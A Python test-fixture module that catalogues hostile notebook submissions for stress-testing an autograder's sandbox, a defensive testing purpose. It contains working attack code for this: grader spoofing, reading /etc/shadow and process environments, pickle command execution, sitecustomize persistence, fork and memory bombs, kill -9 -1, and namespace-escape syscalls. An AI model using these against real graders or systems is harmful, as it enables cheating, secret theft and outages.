'''A corpus of hostile submissions to the ``code`` assignment, kept as data.

Each :class:`Attack` is a snippet that replaces the ``softmax-answer`` cell of the source notebook
(``where="softmax"``) or is inserted as an extra cell right after the setup cell
(``where="before"``, so it runs before every answer).  ``tests/test_hostile.py`` turns each one into
a submission at test time, grades them all in one batch and checks that none gains anything.

What an attack is allowed to earn is its *honest content*: ``softmax_max`` is the most its softmax
question may score (0 for every attack here: none carries a right softmax), and ``others_full``
says whether the untouched honest answers (attention and adam_step; the test leaves adam out of
attack notebooks to keep the batch quick) must still score full marks: they must, unless the attack
sabotages the student's own process for every question.  That check is what catches an attack
spilling onto other questions or onto the notebook graded beside it.  ``isolated`` marks attacks that are only
contained by the full sandbox (another uid, namespaces, hidden course files): in the degraded mode
they would succeed by design, so they are skipped there.  ``stalls`` marks attacks on the grader's
time (the protocol, its deadlines, its pipes): the stall test grades each one first, with honest
notebooks after it in the same worker.

Markers: everything an attack tries to leave behind is named ``rm-hostile-<something>`` so that the
test can look for it on the host (files) and in process command lines.  ``{port}`` is replaced by a
TCP port the test listens on at 127.0.0.1 (the host's loopback), ``{secret}`` by nothing: the secret
is only in the grader's environment, where the attack should never find it.
'''

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    code: str
    why: str
    where: str = "softmax"
    softmax_max: int = 0
    others_full: bool = True
    isolated: bool = False
    stalls: bool = False


# A wrong softmax many attacks carry as their "honest content": right shape, wrong values, scores 0.
WRONG = "import numpy as np\ndef softmax(z, T=1.0):\n    return np.zeros_like(np.asarray(z, dtype=float))\n"

# Call-level hangs strike only when the grader calls (not in the notebook's own public-check cell),
# so each costs one timeout rather than two.
GRADER_ONLY = "import sys\ndef _by_grader():\n    return not sys._getframe(2).f_code.co_filename.startswith('<cell')\n"

# The child's protocol channel, which student code can always reach through the garbage collector.
CHANNEL = "import gc\nCH = next(o for o in gc.get_objects() if type(o).__name__ == 'GraderPipes')\n"

# Where the course is on the host, as an attacker inside the sandbox would guess it.
COURSE = "import os, reading_maths\nCOURSE = os.path.dirname(os.path.dirname(reading_maths.__file__))\n"

ATTACKS: dict[str, Attack] = {
    # -- comparison tricks ----------------------------------------------------------------------------
    "eq_always_true": Attack('''
class Liar:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __len__(self): return 3
    def __float__(self): return 0.5
def softmax(z, T=1.0):
    return Liar()
''', "an object equal to everything"),
    "eq_liar_float": Attack('''
class Half(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
    def __abs__(self): return 0.0
def softmax(z, T=1.0):
    return Half(0.5)
''', "a float subclass equal to everything"),
    "ndarray_subclass": Attack('''
import numpy as np
class Evil(np.ndarray):
    def __eq__(self, other): return np.ones(np.shape(other), dtype=bool)
    def __ne__(self, other): return np.zeros(np.shape(other), dtype=bool)
    def __array_function__(self, func, types, args, kwargs): return True
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs): return np.zeros(np.shape(inputs[0]))
def softmax(z, T=1.0):
    return np.zeros(np.shape(z)).view(Evil)
''', "an ndarray subclass overriding __eq__, __array_function__ and __array_ufunc__"),
    "array_interface_liar": Attack('''
import numpy as np
class Fake:
    def __init__(self, shape): self.shape = shape
    def __array__(self, dtype=None, copy=None): return np.full(self.shape, np.nan)
    def __eq__(self, other): return True
def softmax(z, T=1.0):
    return Fake(np.shape(z))
''', "an object whose __array__ gives NaN and whose __eq__ is always true"),
    "class_trick": Attack('''
import numpy as np
class Fake(float):
    @property
    def __class__(self): return np.ndarray
    shape = property(lambda self: (3,))
def softmax(z, T=1.0):
    return Fake(0.0)
''', "a float subclass pretending to be an ndarray through __class__"),
    "monkeypatch_numpy": Attack(WRONG + '''
import numpy as np, numpy.testing
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.broadcast(a, b).shape, dtype=bool)
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_almost_equal = lambda *a, **k: None
''', "np.allclose, np.isclose, np.array_equal and np.testing made always true"),
    "monkeypatch_builtins": Attack(WRONG + '''
import builtins
class NeverRaised(Exception):
    pass
builtins.AssertionError = NeverRaised
builtins.abs = lambda x: 0
builtins.all = lambda x: True
''', "builtins AssertionError, abs and all replaced"),
    "monkeypatch_isinstance": Attack(WRONG + '''
import builtins
builtins.isinstance = lambda *a: True
''', "builtins.isinstance always true (breaks the student's own process for every question)",
        others_full=False),
    # -- swallowed exceptions -------------------------------------------------------------------------
    "ipython_custom_exc": Attack(WRONG + '''
try:
    get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)
except Exception:
    pass
import sys
sys.excepthook = lambda *a: None
import threading
threading.excepthook = lambda *a: None
def softmax(z, T=1.0):
    raise AssertionError("swallowed?")
''', "IPython custom exception handler and sys.excepthook swallowing every error"),
    # -- hunting the reference ------------------------------------------------------------------------
    "stack_inspection": Attack('''
import inspect, numpy as np
def softmax(z, T=1.0):
    for frame in inspect.stack():
        for scope in (frame.frame.f_locals, frame.frame.f_globals):
            for key in ("expected", "REF", "reference", "q"):
                found = scope.get(key)
                if found is not None and hasattr(found, "softmax"):
                    return found.softmax(z, T)
                if isinstance(found, (list, np.ndarray)):
                    return found[0] if isinstance(found, list) else found
    return np.zeros_like(np.asarray(z, dtype=float))
''', "inspect.stack() looking for the reference or the expected values"),
    "gc_hunt": Attack('''
import gc, numpy as np
def softmax(z, T=1.0):
    z = np.asarray(z, dtype=float)
    for obj in gc.get_objects():
        ref = getattr(obj, "softmax", None) if type(obj).__name__ in ("SimpleNamespace", "module") else None
        if ref is not None and ref is not softmax:
            return ref(z, T)
    for obj in gc.get_objects():
        if isinstance(obj, dict) and "REF" in obj:
            return obj["REF"].softmax(z, T)
    return np.zeros_like(z)
''', "gc.get_objects() looking for a reference namespace"),
    "import_reference": Attack('''
import os, numpy as np
os.environ["READING_MATHS_COURSE"] = "/work/main"
from reading_maths.kit import reference
try:
    REF = reference("code")
except Exception:
    for guess in ("/work/main", "../..", "../../..", os.path.expanduser("~")):
        try:
            os.environ["READING_MATHS_COURSE"] = os.path.abspath(guess)
            REF = reference("code")
            break
        except Exception:
            continue
def softmax(z, T=1.0):
    return REF.softmax(z, T)
''', "reading_maths.kit.reference('code') inside the sandbox", isolated=True),
    "read_hidden_files": Attack(COURSE + '''
import glob, json
LOOT = {}
for path in [COURSE + "/graders/code/softmax.py", "../../graders/code/softmax.py",
             COURSE + "/source/code/code.ipynb", COURSE + "/gradebook.db", "../../gradebook.db",
             COURSE + "/nbgrader_config.py", "/proc/1/environ", "/proc/1/cmdline", "/etc/shadow",
             "/root/.bash_history", "/etc/passwd"] + glob.glob("/proc/*/environ"):
    try:
        with open(path, "rb") as fh:
            LOOT[path] = fh.read(1 << 20)
    except OSError:
        pass
SOURCE = b"".join(LOOT.values()).decode("utf-8", "replace")
def softmax(z, T=1.0):
    ns = {}
    try:
        nb = json.loads(LOOT[COURSE + "/source/code/code.ipynb"])
        for cell in nb["cells"]:
            if cell["cell_type"] == "code" and "def softmax" in "".join(cell["source"]):
                exec("".join(cell["source"]), ns)
        return ns["softmax"](z, T)
    except Exception:
        raise ValueError(SOURCE[:400])
''', "reading the hidden grader, the source notebook, the gradebook and /proc/1/environ", isolated=True),
    "walk_root": Attack('''
import os, time
FOUND = []
start = time.monotonic()
for top, dirs, files in os.walk("/"):
    dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
    FOUND += [os.path.join(top, f) for f in files if f.endswith((".ipynb", ".db", "softmax.py")) or "grader" in top]
    if time.monotonic() - start > 1.5:
        break
def softmax(z, T=1.0):
    raise FileNotFoundError(";".join(f for f in FOUND if "site-packages" not in f)[:400])
''', "walking / for notebooks, gradebooks and graders", isolated=True),
    "env_secrets": Attack('''
import os
def softmax(z, T=1.0):
    seen = dict(os.environ)
    try:
        seen["self"] = open("/proc/self/environ", "rb").read().decode("latin-1")
    except OSError:
        pass
    raise KeyError(repr(seen)[:450])
''', "reading environment variables for secrets (shown back through a public case's message)"),
    "parent_environ": Attack('''
import os
def softmax(z, T=1.0):
    loot = []
    for pid in (os.getppid(), 1):
        try:
            loot.append(open(f"/proc/{pid}/environ", "rb").read().decode("latin-1"))
        except OSError as exc:
            loot.append(type(exc).__name__)
    raise KeyError(" | ".join(loot)[:450])
''', "reading the parent's environment through /proc", isolated=True),
    # -- writing where grades live --------------------------------------------------------------------
    "write_course_files": Attack(WRONG + COURSE + '''
import json, pickle
for path in [COURSE + "/gradebook.db", COURSE + "/rm-hostile-course", COURSE + "/autograded/rm-hostile/x.ipynb",
             COURSE + "/graders/code/softmax.py", "../../gradebook.db", "../rm-hostile-up", "/tmp/rm-hostile-tmp",
             "/work/rm-hostile-work", COURSE + "/results.json", COURSE + "/.OTTER_LOG", "results.json",
             "/results/results.json", os.path.expanduser("~/rm-hostile-home")]:
    try:
        os.makedirs(os.path.dirname(os.path.abspath(path)), exist_ok=True)
        with open(path, "a") as fh:
            fh.write(json.dumps({"score": 57, "tests": [], "by": "rm-hostile"}))
    except OSError:
        pass
''', "writing the gradebook, autograded/, the graders, .OTTER_LOG and a results.json", isolated=True),
    "pickle_otter_log": Attack(WRONG + COURSE + '''
import pickle
class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/rm-hostile-unpickled",))
for path in [".OTTER_LOG", "../.OTTER_LOG", COURSE + "/.OTTER_LOG", "/tmp/.OTTER_LOG"]:
    try:
        with open(path, "wb") as fh:
            pickle.dump(Payload(), fh)
    except OSError:
        pass
''', "a pickle named .OTTER_LOG that runs a command when unpickled", isolated=True),
    "pickle_return": Attack('''
import os
class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/rm-hostile-unpickled-return",))
def softmax(z, T=1.0):
    return Payload()
''', "returning an object whose __reduce__ runs a command"),
    "planted_conftest": Attack(WRONG + COURSE + '''
CONFTEST = "open('/tmp/rm-hostile-conftest', 'w').write('ran')\\n"
for path in ["conftest.py", "../conftest.py", COURSE + "/conftest.py", COURSE + "/tests/conftest.py",
             os.path.expanduser("~/conftest.py")]:
    try:
        with open(path, "w") as fh:
            fh.write(CONFTEST)
    except OSError:
        pass
''', "a conftest.py written into the working directory and next to the notebook", isolated=True),
    "persistence": Attack(WRONG + '''
import os, site, sys
EVIL = "open('/tmp/rm-hostile-persisted', 'w').write('ran')\\n"
targets = [os.path.expanduser("~/.ipython/profile_default/startup/00-rm-hostile.py"),
           os.path.join(site.getusersitepackages(), "sitecustomize.py"),
           os.path.join(site.getusersitepackages(), "usercustomize.py"),
           os.path.join(site.getusersitepackages(), "rm-hostile.pth"),
           os.path.join(sys.prefix, "lib", "python%d.%d" % sys.version_info[:2], "site-packages", "rm-hostile.pth"),
           "/root/.ipython/profile_default/startup/00-rm-hostile.py", "sitecustomize.py"]
for path in targets:
    try:
        os.makedirs(os.path.dirname(os.path.abspath(path)), exist_ok=True)
        with open(path, "w") as fh:
            fh.write(("import os; " + EVIL) if path.endswith(".pth") else EVIL)
    except OSError:
        pass
''', "persistence through IPython startup files, sitecustomize and .pth files", isolated=True),
    # -- ending or escaping the process ---------------------------------------------------------------
    "os_exit_in_call": Attack('''
import os
def softmax(z, T=1.0):
    os._exit(0)
''', "os._exit(0) inside the graded call"),
    "os_exit_in_cell": Attack(WRONG + '''
import os
os._exit(0)
''', "os._exit(0) at cell level"),
    "system_exit": Attack('''
def softmax(z, T=1.0):
    raise SystemExit(0)
raise SystemExit(0)
''', "SystemExit inside the call and at cell level"),
    "keyboard_interrupt": Attack('''
def softmax(z, T=1.0):
    raise KeyboardInterrupt
raise KeyboardInterrupt
''', "KeyboardInterrupt inside the call and at cell level"),
    "kill_parent": Attack(WRONG + '''
import os, signal
def softmax(z, T=1.0):
    for pid in (os.getppid(), 1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return 0
try:
    os.kill(os.getppid(), signal.SIGKILL)
except OSError:
    pass
''', "os.kill(os.getppid(), 9) at cell level and in the call", isolated=True),
    "killpg_zero": Attack('''
import os
def softmax(z, T=1.0):
    os.killpg(0, 9)
''', "os.killpg(0, 9) in the call", isolated=True),
    "kill_everything": Attack('''
import os
def softmax(z, T=1.0):
    os.system("kill -9 -1")
    os.kill(-1, 9)
''', "kill -9 -1 in the call", isolated=True),
    "lingering_daemon": Attack(WRONG + COURSE + '''
import sys
SCRIPT = ("import time, os\\ntime.sleep(2)\\n"
          "for p in [%r + '/rm-hostile-daemon', '/tmp/rm-hostile-daemon']:\\n"
          "    try: open(p, 'w').write('alive')\\n"
          "    except OSError: pass\\n"
          "time.sleep(60)  # rm-hostile-daemon\\n") % COURSE
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", SCRIPT, "rm-hostile-daemon"])
    os._exit(0)
os.wait()
''', "a double-forked, setsid daemon that later writes into the course and sleeps", isolated=True),
    "ignore_signals": Attack(GRADER_ONLY + '''
import signal, time
for s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM, signal.SIGXCPU):
    signal.signal(s, signal.SIG_IGN)
def softmax(z, T=1.0):
    if not _by_grader():
        return 0.0
    while True:
        time.sleep(0.1)
''', "ignoring catchable signals and sleeping forever in the call"),
    # -- resource exhaustion --------------------------------------------------------------------------
    "infinite_loop_cell": Attack('''
def softmax(z, T=1.0):
    return 0.0
while True:
    pass
''', "an endless loop at cell level"),
    "infinite_loop_call": Attack(GRADER_ONLY + '''
def softmax(z, T=1.0):
    if not _by_grader():
        return 0.0
    while True:
        pass
''', "an endless loop inside the call"),
    "memory_bomb_bytearray": Attack('''
def softmax(z, T=1.0):
    return bytearray(10**11)
BLOB = bytearray(10**11)
''', "bytearray(10**11) at cell level and in the call"),
    "memory_bomb_list": Attack('''
def softmax(z, T=1.0):
    hog = []
    while True:
        hog.append(bytearray(50 * 2**20))
hog = []
while True:
    hog.append(bytearray(50 * 2**20))
''', "a list growing until memory runs out, at cell level and in the call"),
    "fork_bomb": Attack(GRADER_ONLY + '''
import os
def softmax(z, T=1.0):
    if not _by_grader():
        return 0.0
    while True:
        try:
            os.fork()
        except OSError:
            pass
''', "while True: os.fork() in the call (bounded by the process rlimit and the timeout)", isolated=True),
    "huge_output": Attack(WRONG + '''
import os, sys
print("x" * 100_000_000)
sys.__stdout__.write("y" * 10_000_000)
for fd in (1, 2):
    try:
        os.write(fd, b"z" * 10_000_000)
    except OSError:
        pass
''', "printing 100 MB, and writing to the raw descriptors"),
    "huge_return": Attack('''
import numpy as np
def softmax(z, T=1.0):
    return np.zeros(12_000_000)
''', "returning a 96 MB array (over the wire's message limit)"),
    "disk_fill": Attack(WRONG + '''
import os
for i in range(4):
    try:
        with open(f"rm-hostile-fill-{i}", "wb") as fh:
            fh.write(b"0" * (40 << 20))
    except OSError:
        pass
''', "writing files larger than the file-size limit into the scratch"),
    # -- network --------------------------------------------------------------------------------------
    "network": Attack('''
import socket
REACHED = []
for host, port in [("127.0.0.1", {port}), ("127.0.0.1", 22), ("127.0.0.1", 80), ("8.8.8.8", 53), ("10.0.2.2", 80)]:
    try:
        with socket.create_connection((host, port), timeout=0.3) as s:
            s.sendall(b"rm-hostile-network")
            REACHED.append(port)
    except OSError:
        pass
try:
    socket.getaddrinfo("example.com", 80)
    REACHED.append("dns")
except OSError:
    pass
def softmax(z, T=1.0):
    raise ConnectionError(repr(REACHED))
''', "connecting to host ports on 127.0.0.1 (one the test listens on) and resolving DNS", isolated=True),
    # -- bad outputs ----------------------------------------------------------------------------------
    "nan_output": Attack('''
import numpy as np
def softmax(z, T=1.0):
    return np.full_like(np.asarray(z, dtype=float), np.nan)
''', "NaN everywhere"),
    "empty_output": Attack('''
import numpy as np
def softmax(z, T=1.0):
    return np.zeros((0,))
''', "an empty array"),
    "broadcast_shape": Attack('''
import numpy as np
def softmax(z, T=1.0):
    z = np.asarray(z, dtype=float) / T
    e = np.exp(z - z.max(axis=-1, keepdims=True))
    return (e / e.sum(axis=-1, keepdims=True))[None]
''', "the right values in a broadcastable shape (1, ..., K) instead of (..., K)"),
    # -- the protocol ---------------------------------------------------------------------------------
    "protocol_forgery": Attack('''
import json, os, struct
def _frame(message):
    body = json.dumps(message).encode()
    return struct.pack(">I", len(body)) + body
def softmax(z, T=1.0):
    for fd in range(3, 12):
        try:
            os.write(fd, _frame({"event": "return", "value": {"__nd__": ["f8", [65536, 65536, 65536, 65536], ""]},
                                 "args": []}))
        except OSError:
            pass
    return 0.0
''', "forged protocol frames: an array whose shape overflows int64 to zero elements; the stale replies "
       "it leaves desynchronise only its own process", others_full=False),
}

ATTACKS["forged_ready"] = Attack(WRONG + '''
import json, os, struct
OVERFLOW = {"__nd__": ["f8", [65536, 65536, 65536, 65536], ""]}
body = json.dumps({"event": "ready", "names": {"softmax": {"kind": "value", "value": OVERFLOW},
                   "attention": {"kind": "callable"}, "adam_step": {"kind": "callable"},
                   "adam": {"kind": "callable"}, "dpo_loss": {"kind": "callable"}}}).encode()
for fd in range(3, 12):
    try:
        os.write(fd, struct.pack(">I", len(body)) + body)
    except OSError:
        pass
''', "a forged 'ready' message naming softmax a malformed array (shape product overflowing int64)")

# -- stalling the grader: the protocol, its deadlines and its pipes -------------------------------------
ATTACKS["frame_flood"] = Attack(WRONG + CHANNEL + '''
import time
while True:  # a frame every 0.1 s: the old per-message deadline restarted on each, sleeping costs no CPU
    CH.send({"event": "cell", "id": 0})
    time.sleep(0.1)
''', "a cell that keeps sending protocol frames so its time limit never runs out", stalls=True)

ATTACKS["frame_flood_in_call"] = Attack(CHANNEL + GRADER_ONLY + '''
import time
def softmax(z, T=1.0):
    while _by_grader():
        CH.send({"event": "progress"})
        time.sleep(0.1)
    return 0.0
''', "a call that keeps sending frames instead of returning", stalls=True)

ATTACKS["unhashable_cell_id"] = Attack(WRONG + CHANNEL + '''
CH.send({"event": "cell", "id": [1, 2]})
CH.send({"event": "cell_done", "id": {"a": 1}, "error": None})
''', "a forged cell event with an unhashable id (it used to raise out of the session's start, "
       "leaving the sandbox's processes at the uid's process limit for the next students)",
    stalls=True)

ATTACKS["unread_callback_replies"] = Attack(CHANNEL + GRADER_ONLY + '''
import time
def softmax(z, T=1.0):
    if _by_grader():
        for _ in range(20000):  # each asks for a reply the child never reads: the grader's pipe fills up
            CH.send({"event": "callback", "id": 0, "args": [list(range(50))]})
        time.sleep(600)
    return 0.0
''', "callback requests whose replies are never read, so the grader's write blocks", stalls=True)

ATTACKS["empty_lists_return"] = Attack(CHANNEL + GRADER_ONLY + '''
import os, struct, time
BODY = b'{"event":"return","value":[' + b"[]," * 22_000_000 + b'[]],"args":[]}'
def softmax(z, T=1.0):
    if _by_grader():
        os.write(CH.out, struct.pack(">I", len(BODY)) + BODY)
        time.sleep(600)
    return 0.0
''', "a 64 MiB return of 22 million empty lists (seconds and gigabytes to decode)", stalls=True)

ATTACKS["sysv_shm_left_behind"] = Attack(WRONG + '''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
for key in range(0x5e11, 0x5e19):
    shm = libc.shmget(key, 8 << 20, 0o1666)
    if shm >= 0:
        address = libc.shmat(shm, None, 0)
        if address not in (None, ctypes.c_void_p(-1).value):
            ctypes.memset(address, 1, 8 << 20)
''', "SysV shared memory segments that outlive their process unless the IPC namespace dies with it",
    isolated=True)

# -- state shared between children (issue 19): each is graded before the canaries in the same worker --------
ATTACKS["plant_in_shared_tree"] = Attack(WRONG + '''
import os, sys
SHADOW = "import sys\\nopen('/tmp/rm-hostile-shadow-ran', 'w').write('x')\\n"
for folder in {os.path.dirname(p) for p in sys.path} | set(sys.path) | {"/", "/opt", "/work", "/dev", "/usr/lib"}:
    for name in ("numpy.py", "json.py", "sitecustomize.py", "rm-hostile-plant.pth"):
        try:
            open(os.path.join(folder, name), "w").write(SHADOW)
        except OSError:
            pass
''', "modules shadowing numpy and json written wherever the child can, for a later student's child to import",
    isolated=True)
ATTACKS["keyring_plant"] = Attack(WRONG + '''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(4096)
for ring in (-1, -2, -3, -4, -5):  # thread, process, session, user, user-session keyrings
    libc.syscall(248, b"user", b"rm-hostile-key", b"planted for the next notebook", 29, ring)
    libc.syscall(250, 11, ring, buffer, 4096)  # KEYCTL_READ: the grader's session keyring
''', "keys planted in every keyring for a later notebook of the same uid, and the grader's session keyring read",
    isolated=True)
ATTACKS["memfd_hog"] = Attack(WRONG + '''
import mmap, os
kept = []
for _ in range(8):
    fd = os.memfd_create("rm-hostile-memfd"); os.ftruncate(fd, 512 << 20)
    view = mmap.mmap(fd, 512 << 20); kept.append(view)
    view[::4096] = b"\\1" * len(range(0, 512 << 20, 4096))
''', "4 GiB of memfd, which no rlimit counts", isolated=True)
ATTACKS["dev_shm_fill"] = Attack(WRONG + '''
import os
for folder in ("/dev/shm", "/tmp", os.path.expanduser("~")):
    try:
        with open(os.path.join(folder, "rm-hostile-fill"), "wb") as fh:
            for _ in range(4096):
                fh.write(b"\\1" * (1 << 20))
    except OSError:
        pass
''', "/dev/shm, /tmp and HOME filled (shared memory a later student would find, and memory past the cap)",
    isolated=True)
ATTACKS["sysv_sem_msg_left_behind"] = Attack(WRONG + '''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for key in range(0x5e21, 0x5e29):
    libc.semget(key, 250, 0o1666)
    libc.msgget(key, 0o1666)
libc.mq_open(b"/rm-hostile-mq", 0o100 | 2, 0o666, None)
''', "SysV semaphores, message queues and a POSIX queue, kernel memory no rlimit counts", isolated=True)
ATTACKS["memory_in_children"] = Attack(WRONG + '''
import os, time
for _ in range(4):
    try:
        if os.fork() == 0:
            block = bytearray(512 << 20); block[::4096] = b"\\1" * len(range(0, 512 << 20, 4096))
            time.sleep(600); os._exit(0)
    except OSError:
        break
''', "2 GiB held by forked children that sleep, each under the address-space limit", isolated=True)

# -- slow but right: not in ATTACKS (under the default budget it earns its marks, slowly) -----------------
SLOW_CALL = 6
"""Seconds each of the grader's calls of :data:`SLOW_BUT_RIGHT` sleeps: just under the call deadline its test sets."""
SLOW_BUT_RIGHT = Attack(GRADER_ONLY + f'''
import time
import numpy as np
def softmax(z, T=1.0):
    if _by_grader():
        time.sleep({SLOW_CALL})
    z = np.asarray(z, dtype=float) / T
    e = np.exp(z - np.max(z, axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)
''', "a right softmax whose every call by the grader sleeps just under the call deadline: it would hold its "
     "worker for minutes, the honest students behind it waiting", softmax_max=10, stalls=True)

# -- namespaces, mounts and kernel state (issue 32): each earns a right softmax if it got through -------------
SYSCALLS = '''import ctypes, errno, os, platform, socket
libc = ctypes.CDLL(None, use_errno=True)
NR = {"x86_64": dict(clone=56, unshare=272, setns=308), "aarch64": dict(clone=220, unshare=97, setns=268)}[
    platform.machine()]
NR.update(fsopen=430, fsconfig=431, fsmount=432, io_uring_setup=425, clone3=435)
ESCAPED = []
'''
REWARD = '''
if ESCAPED:  # it got through: a right softmax, so that its marks show it
    import numpy as np
    def softmax(z, T=1.0):
        z = np.asarray(z, dtype=float) / T
        e = np.exp(z - np.max(z, axis=-1, keepdims=True))
        return e / e.sum(axis=-1, keepdims=True)
'''
ATTACKS["nested_userns_tmpfs"] = Attack(WRONG + SYSCALLS + '''
import time
r, w = os.pipe()
if os.fork() == 0:  # the hub's attack: a user and mount namespace of its own, and a tmpfs the size it likes
    try:
        uid, gid = os.getuid(), os.getgid()
        if libc.syscall(NR["unshare"], 0x10000000 | 0x20000) == 0:  # CLONE_NEWUSER | CLONE_NEWNS
            for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
                open(f"/proc/self/{name}", "w").write(text)
        if libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, b"size=4g") == 0:
            for i in range(8):  # 256 MiB, in files under the file-size limit
                with open(f"/tmp/rm-hostile-nested-{i}", "wb") as fh:
                    fh.write(b"\\1" * (32 << 20))
            os.write(w, b"held")
        os.close(w)
        time.sleep(600)
    finally:
        os._exit(0)
os.close(w)
if os.read(r, 4) == b"held":
    ESCAPED.append("nested tmpfs")
''' + REWARD, "a nested user and mount namespace holding a tmpfs of its own size (4 GiB allowed, 256 MiB "
                "written), outside the sandbox's memory bound", isolated=True)
ATTACKS["every_namespace"] = Attack(WRONG + SYSCALLS + '''
for flag in (0x20000, 0x2000000, 0x4000000, 0x8000000, 0x10000000, 0x20000000, 0x40000000, 0x80):
    pid = os.fork()
    if pid == 0:
        os._exit(0 if libc.syscall(NR["unshare"], flag) == 0 else 1)  # nothing else runs in it
    if os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 0:
        ESCAPED.append(f"unshare {flag:#x}")
    if flag != 0x80:
        pid = libc.syscall(NR["clone"], flag | 17, 0, 0, 0, 0)
        if pid == 0:
            os._exit(0)
        if pid > 0:
            os.waitpid(pid, 0)
            ESCAPED.append(f"clone {flag:#x}")
if libc.syscall(NR["setns"], os.open("/proc/self/ns/net", os.O_RDONLY), 0) == 0:
    ESCAPED.append("setns")
if libc.syscall(NR["clone3"], None, 0) < 0 and ctypes.get_errno() != errno.ENOSYS:
    ESCAPED.append("clone3 reached the kernel")
''' + REWARD, "unshare and clone with every CLONE_NEW* flag, setns, clone3 (whose flags no filter can read)",
    isolated=True)
ATTACKS["detached_tmpfs"] = Attack(WRONG + SYSCALLS + '''
import time
r, w = os.pipe()
if os.fork() == 0:
    try:
        uid, gid = os.getuid(), os.getgid()
        if libc.syscall(NR["unshare"], 0x10000000 | 0x20000) == 0:  # CAP_SYS_ADMIN over a mount namespace
            for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
                open(f"/proc/self/{name}", "w").write(text)
        fs = libc.syscall(NR["fsopen"], b"tmpfs", 0)
        if fs >= 0:
            libc.syscall(NR["fsconfig"], fs, 1, b"size", b"4g", 0)
            libc.syscall(NR["fsconfig"], fs, 6, None, None, 0)
            mnt = libc.syscall(NR["fsmount"], fs, 0, 0)
            if mnt >= 0:
                kept = os.open("rm-hostile-detached", os.O_CREAT | os.O_RDWR, 0o600, dir_fd=mnt)
                os.write(kept, b"\\1" * (32 << 20))
                os.write(w, b"held")
        os.close(w)
        time.sleep(600)
    finally:
        os._exit(0)
os.close(w)
if os.read(r, 4) == b"held":
    ESCAPED.append("a tmpfs in no mount table")
''' + REWARD, "a tmpfs made with the new mount API (fsopen, fsmount) and never attached, held by a descriptor",
    isolated=True)
ATTACKS["io_uring_ring"] = Attack(WRONG + SYSCALLS + '''
RING = libc.syscall(NR["io_uring_setup"], 4096, ctypes.create_string_buffer(120))
if RING >= 0:
    ESCAPED.append("io_uring")
''' + REWARD, "an io_uring ring (kernel state and memory outside the bound, a frequent kernel attack surface)",
    isolated=True)
ATTACKS["grown_buffers"] = Attack(WRONG + SYSCALLS + '''
import fcntl
KEPT = []
for _ in range(32):
    a, b = socket.socketpair()
    r, w = os.pipe()
    KEPT += [a, b, r, w]
    try:
        a.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 64 << 20)
        fcntl.fcntl(w, 1031, 1 << 20)  # F_SETPIPE_SZ
        ESCAPED.append("a buffer grown")
    except OSError:
        pass
    a.setblocking(False)
    os.set_blocking(w, False)
    for fd in (a.fileno(), w):
        try:
            while True:
                os.write(fd, b"\\1" * (1 << 20))
        except OSError:
            pass
try:
    listener = socket.create_server(("127.0.0.1", 0))
    ESCAPED.append("an inet socket")
    KEPT += [listener, socket.create_connection(listener.getsockname())]
except OSError:
    pass
''' + REWARD, "socket and pipe buffers grown to megabytes and filled, and a loopback TCP connection (its buffers "
                "grow to megabytes by themselves)", isolated=True)
